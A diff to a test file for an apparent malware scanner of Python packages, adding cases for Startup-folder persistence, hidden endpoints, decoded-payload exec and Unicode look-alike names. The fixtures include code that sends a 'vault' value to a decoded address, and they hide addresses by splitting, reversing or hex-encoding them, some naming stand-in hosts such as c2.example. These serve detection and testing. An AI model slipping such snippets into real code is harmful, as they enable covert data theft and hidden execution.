@@ -1,5 +1,6 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import { initPython, parsePython } from '../../src/python/index.js';
+import { needsCorroboration } from '../../src/rules/benign-idioms.js';
 import { firstMatching } from '../../src/rules/context.js';
 import { RULES, runRules, runTextRules, TEXT_RULES } from '../../src/rules/index.js';
 import { SAMPLES, TEXT_SAMPLES } from './samples.js';
@@ -364,6 +365,25 @@ describe('startup-file-write: a download written into a shell rc file', () => {
     const signed = "'export PATH=$HOME/.tool/bin:$PATH  # added by tool, https://example.org/tool'";
     expect(hits(rc(signed)).map((h) => h.severity)).toEqual(['medium']);
   });
+  it("is critical when an encoded payload's loader goes into the Windows Startup folder, medium for a plain shortcut", () => {
+    const startup = (content: string) =>
+      `import os
+def _later():
+    folder = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
+    path = os.path.join(folder, ".setup.pyw")
+    open(path, "w").write(${content})
+`;
+    expect(
+      hits(startup(`'import pickle,zlib\\npickle.loads(zlib.decompress(b"x\\xda"))'`)).map((h) => [
+        h.line,
+        h.severity,
+        h.context,
+      ]),
+    ).toEqual([[5, 'critical', 'runtime']]);
+    expect(hits(startup('\'start "" "C:\\\\Tools\\\\tray.exe"\'')).map((h) => h.severity)).toEqual([
+      'medium',
+    ]);
+  });
 });
 
 describe('wallet-monkeypatch: a key library rewritten', () => {
@@ -388,5 +408,90 @@ describe('wallet-monkeypatch: a key library rewritten', () => {
     const source =
       'from web3 import Web3\nfrom eth_account import Account\nWeb3.toChecksumAddress = Web3.to_checksum_address\nAccount.privateKeyToAccount = Account.from_key\nWeb3.DEFAULT_TIMEOUT = 30\n';
     expect(hits(source)).toEqual([]);
+  });
+});
+
+describe('hidden-endpoint: requests to an address no string in the file spells', () => {
+  const hits = (source: string, path = 'pkg/net.py') =>
+    runRules(parsePython(source, path)).filter((e) => e.rule === 'hidden-endpoint');
+  const b64 = (s: string) => Buffer.from(s).toString('base64');
+  it('follows a decoded address into a helper, by position or keyword, and is critical when the send is blind', () => {
+    const helper = (call: string) =>
+      `import base64\nfrom requests import post\ndef grab(vault):\n    def send(where, what):\n        try:\n            post(where, data={"v": what})\n        except:\n            pass\n    u = base64.b64decode("${b64('http://203.0.113.9:5000/post')}")\n    ${call}\n`;
+    for (const call of ['send(u.decode("ascii"), vault)', 'send(what=vault, where=u.decode())']) {
+      expect(
+        hits(helper(call)).map((h) => [h.line, h.severity, h.context]),
+        call,
+      ).toEqual([[6, 'critical', 'runtime']]);
+    }
+  });
+  it('is high when the reply is read, and reads split, reversed and hex-encoded addresses', () => {
+    for (const address of [
+      `"ht" + "tps://col" + "lect.exa" + "mple/k"`,
+      `"k/elpmaxe.tcelloc//:sptth"[::-1]`,
+      `bytes.fromhex("${Buffer.from('https://collect.example/k').toString('hex')}").decode()`,
+    ]) {
+      const found = hits(
+        `import requests\ndef f(d):\n    r = requests.get(${address}, params=d)\n    return r.text\n`,
+      );
+      expect(
+        found.map((h) => [h.line, h.severity]),
+        address,
+      ).toEqual([[3, 'high']]);
+    }
+  });
+  it('leaves written-out domains, interpolated hosts, loopback and tests alone', () => {
+    const get = (address: string, path?: string) =>
+      hits(
+        `import requests, base64\nHOST = "service.example.org"\ndef f(name):\n    return requests.get(${address}).json()\n`,
+        path,
+      );
+    expect(get(`"https://" + name + ".service.example.org/a"`)).toEqual([]);
+    expect(get(`f"https://{name}/a"`)).toEqual([]);
+    expect(get(`base64.b64decode("${b64('http://127.0.0.1:8080/')}").decode()`)).toEqual([]);
+    expect(get(`"https://" + HOST + "/v1"`)).toEqual([]);
+    expect(get(`base64.b64decode("${b64('https://c2.example/k')}").decode()`, 'tests/test_net.py')).toEqual(
+      [],
+    );
+    expect(get(`base64.b64decode("${b64('https://c2.example/k')}").decode()`)).toHaveLength(1);
+  });
+});
+
+describe('names are read as Python reads them (NFKC)', () => {
+  it('sees exec and subprocess written in mathematical look-alike letters', () => {
+    const source =
+      'import \u{1d634}\u{1d636}\u{1d623}\u{1d631}\u{1d633}\u{1d630}\u{1d624}\u{1d626}\u{1d634}\u{1d634}, base64\n\u{1d626}\u{1d639}\u{1d626}\u{1d624}(base64.b64decode("cHJpbnQoMSk="))\n\u{1d634}\u{1d636}\u{1d623}\u{1d631}\u{1d633}\u{1d630}\u{1d624}\u{1d626}\u{1d634}\u{1d634}.run(["ls"])\n';
+    const file = parsePython(source, 'pkg/__init__.py');
+    expect(file.imports.map((i) => i.module)).toContain('subprocess');
+    expect(file.calls.map((c) => c.name)).toEqual(expect.arrayContaining(['exec', 'subprocess.run']));
+    expect(runRules(file).map((e) => e.rule)).toContain('exec-decoded-payload');
+  });
+  it('keeps the characters of strings, which Python does not normalise', () => {
+    const file = parsePython('x = "\uff54\uff45\uff53\uff54"\n', 'pkg/a.py');
+    expect(file.strings.map((s) => s.value)).toEqual(['\uff54\uff45\uff53\uff54']);
+  });
+});
+
+describe('exec-decoded-payload: the decoder and the exec on separate lines', () => {
+  const hits = (source: string) =>
+    runRules(parsePython(source, 'pkg/__init__.py')).filter((e) => e.rule === 'exec-decoded-payload');
+  it('follows a local through up to three assignments, in a function or at module level', () => {
+    const chain =
+      'import base64, zlib\ndef run(blob):\n    a = base64.b64decode(blob)\n    b = zlib.decompress(a)\n    code = b\n    exec(code.decode())\n';
+    expect(hits(chain).map((h) => [h.line, h.severity])).toEqual([[6, 'critical']]);
+    expect(hits('import base64\np = base64.b64decode(B)\nx = 1\nexec(p)\n').map((h) => h.line)).toEqual([4]);
+  });
+  it('needs backing in that form (versioneer runs the source it embeds so), not with the decoder in the call', () => {
+    const [split] = hits('import base64\nV = base64.b64decode(V_B64)\nexec(V.decode(), globals())\n');
+    const [inline] = hits('import base64\nexec(base64.b64decode(V_B64).decode(), globals())\n');
+    expect(split?.message).toBe('exec of decoded data (decoded into V on line 2)');
+    expect(split && needsCorroboration(split)).toBe(true);
+    expect(inline && needsCorroboration(inline)).toBe(false);
+  });
+  it('leaves exec of code read from a file, or of a name the decoder never fed', () => {
+    expect(hits('src = open("v.py").read()\nexec(src)\n')).toEqual([]);
+    expect(hits('import base64\ndef f():\n    p = base64.b64decode(B)\ndef g(p):\n    exec(p)\n')).toEqual(
+      [],
+    );
   });
 });
